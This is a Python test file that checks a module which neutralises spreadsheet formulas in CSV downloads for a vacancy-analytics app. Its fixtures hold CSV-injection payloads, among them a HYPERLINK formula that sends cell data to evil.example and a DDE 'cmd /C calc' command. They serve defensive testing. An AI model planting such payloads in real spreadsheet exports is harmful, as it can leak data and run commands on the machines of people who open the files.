"""CSV downloads neutralise spreadsheet formulas (OWASP) and keep numbers as numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from app_pages.charts.vacancies import csv_bytes as vacancy_csv
from pipelines.cli import app
from pipelines.core.safe_csv import csv_bytes, neutralise, neutralise_frame, write_csv
from tests.conftest import hh_item, hh_page, write_json

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "  =1+1",  # spreadsheets skip the blanks
    "-cmd",
    "＝1+1",  # fullwidth equals sign
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_gets_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["Оператор чата", "", "-5", "+7.5", "-0,5", "1e6", "−5 000 ₽", "a=b", "user@example.org",
     None, -2, 3.5, True],
)  # fmt: skip
def test_text_that_is_no_formula_and_numbers_stay_as_they_are(cell):
    assert neutralise(cell) == cell


def test_a_frame_keeps_numeric_columns_and_neutralises_text_ones():
    frame = pd.DataFrame(
        {"id": ["=1+1", "7"], "pay": [-45000.0, None], "delta": [-2, 3], "note": [None, "@x"]}
    )

    out = neutralise_frame(frame)

    assert out["id"].tolist() == ["'=1+1", "7"] and out["note"].tolist()[1] == "'@x"
    assert out["pay"].dtype == frame["pay"].dtype and out["delta"].tolist() == [-2, 3]
    assert frame["id"].tolist() == ["=1+1", "7"]  # the caller's frame is not changed


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_bytes_writes_neutralised_text_with_a_bom():
    data = csv_bytes(pd.DataFrame({"title": FORMULAS, "pay": range(len(FORMULAS))}))

    assert data.startswith(b"\xef\xbb\xbf")
    rows = _rows(data)
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(FORMULAS))]


def test_the_vacancy_table_download_is_neutralised():
    table = pd.DataFrame(
        {"title": ['=HYPERLINK("http://x")'], "employer": ["@SUM(1+1)"], "pay_rub": [-1.0]}
    )

    rows = _rows(vacancy_csv(table, {"title": "Должность"}))

    assert rows == [["Должность", "employer", "pay_rub"],
                    ["'=HYPERLINK(\"http://x\")", "'@SUM(1+1)", "-1.0"]]  # fmt: skip


def test_every_csv_the_code_writes_goes_through_safe_csv():
    """A guard for new downloads: .to_csv( and csv.writer appear only in
    pipelines/core/safe_csv.py."""
    root = Path(__file__).resolve().parents[1]
    writers = re.compile(r"\.to_csv\(|csv\.writer|csv\.DictWriter")
    offenders = [
        str(path.relative_to(root))
        for folder in ("pipelines", "app_pages", "models")
        for path in (root / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path.name != "safe_csv.py"
    ]
    assert root.joinpath("app.py").read_text(encoding="utf-8").count(".to_csv(") == 0
    assert offenders == []


class _FlatModel:
    """Stands in for the pay model: 40 000 … 60 000 for every row."""

    def predict(self, frame: pd.DataFrame, published=None, groups=None) -> pd.DataFrame:
        n = len(frame)
        return pd.DataFrame({"p10": [40000.0] * n, "p50": [50000.0] * n, "p90": [60000.0] * n})


def test_predict_output_csv_neutralises_vacancy_ids(tmp_path):
    from pipelines.cli.predict import _predict_batch

    ids = ['=HYPERLINK("http://evil")', "@SUM(1+1)", "-2+3", "12345"]
    write_json(tmp_path / "s" / "page.json", hh_page(*(hh_item(i) for i in ids)))
    db_file = tmp_path / "w.duckdb"
    runner = CliRunner()
    assert runner.invoke(app, ["ingest", str(tmp_path / "s"), "--db", str(db_file)]).exit_code == 0
    assert runner.invoke(app, ["build-features", "--db", str(db_file)]).exit_code == 0
    out = tmp_path / "predictions.csv"

    _predict_batch(_FlatModel(), {"version": "test"}, db_file, datetime(2025, 1, 1), out)

    table = pd.read_csv(out, dtype={"vacancy_id": str})
    assert sorted(table["vacancy_id"]) == sorted(["'" + i for i in ids[:3]] + ["12345"])
    assert table["p50"].tolist() == [50000.0] * 4  # numbers stay numbers


def test_write_csv_writes_a_neutralised_file(tmp_path):
    write_csv(pd.DataFrame({"a": ["=1"], "b": [1]}), tmp_path / "x.csv")
    assert (tmp_path / "x.csv").read_bytes() == b"a,b\r\n'=1,1\r\n"
